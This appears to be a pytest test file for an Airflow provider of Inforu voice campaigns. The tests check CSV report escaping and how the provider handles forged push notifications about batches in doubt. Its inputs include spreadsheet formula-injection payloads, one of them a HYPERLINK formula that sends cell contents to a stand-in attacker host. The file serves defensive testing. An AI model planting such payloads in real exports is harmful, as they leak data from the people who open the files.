"""Text of the vendor, and of pushes, that reaches a report or decides about batches in doubt."""

import csv
import json
from types import SimpleNamespace

import pytest
from airflow.sdk import DAG

from airflow_provider_inforu.operators.voice import InforuSendExistingCampaignOperator
from airflow_provider_inforu.sending.dispatch import FIRST
from airflow_provider_inforu.sending.in_doubt import find_accepted
from airflow_provider_inforu.sending.report_file import COLUMNS, write_report
from tests.receiver import end_of_call


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1-1",
        "-1",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1+1",
        '=HYPERLINK("http://evil.example/?"&A2)',
    ],
)
def test_no_cell_of_a_report_begins_a_formula(tmp_path, text):
    row = {
        **dict.fromkeys(COLUMNS),
        **dict.fromkeys(("key", "outcome", "digit", "reason"), text),
        "seconds": 8,
    }
    write_report(str(tmp_path / "report.csv"), [row])
    write_report(str(tmp_path / "report.ndjson"), [row])
    with (tmp_path / "report.csv").open(encoding="utf-8", newline="") as file:
        (cells,) = csv.DictReader(file)
    assert {cells[name] for name in ("key", "outcome", "digit", "reason")} == {f"'{text}"}
    assert cells["seconds"] == "8"
    assert json.loads((tmp_path / "report.ndjson").read_text("utf-8"))["key"] == text


def test_a_forged_push_chooses_no_campaign_for_the_batches_after_the_first():
    """The first batch may make the copy of a campaign, to which all others are sent."""
    keys = {FIRST: ["a"], FIRST + 1: ["b"]}
    result = SimpleNamespace(send_id="0" * 16, in_doubt=[*keys], read_keys=keys.get)
    calls = [SimpleNamespace(key=key, campaign_id=666) for key in "ab"]
    gateway = SimpleNamespace(settings=SimpleNamespace(has_receiver=True), iter_call_results=lambda _: calls)
    assert find_accepted(gateway, result) == {FIRST: None, FIRST + 1: 666}


def test_after_a_forged_push_no_later_batch_goes_to_its_campaign(
    runner, connection, inforu_sandbox, receiver
):
    inforu_sandbox.update_settings(requests_per_second=0)
    connection(requests_per_second=0, receiver_url=receiver.url, notification_secret=receiver.secret)
    with DAG("dag"):
        task = InforuSendExistingCampaignOperator(
            task_id="call",
            recipients=[{"id": f"k{number}", "phone": f"05{number:08}"} for number in range(250)],
            campaign_id=183,
            key_field="id",
            duplicate=True,
            in_doubt="resend",
            retries=2,
        )
    inforu_sandbox.add_fault("drop")
    runner.run(task)
    (first,) = inforu_sandbox.requests()
    message_id = first["body"]["Data"]["List"][0]["CustomerMessageID"]
    assert receiver.push([end_of_call(message_id, CampaignID=666)]).json()["stored"] == 1
    runner.max_tries += 2
    runner.run(task, try_number=2)
    assert [str(one["body"]["Data"]["CampaignId"]) for one in inforu_sandbox.requests()] == ["183"]
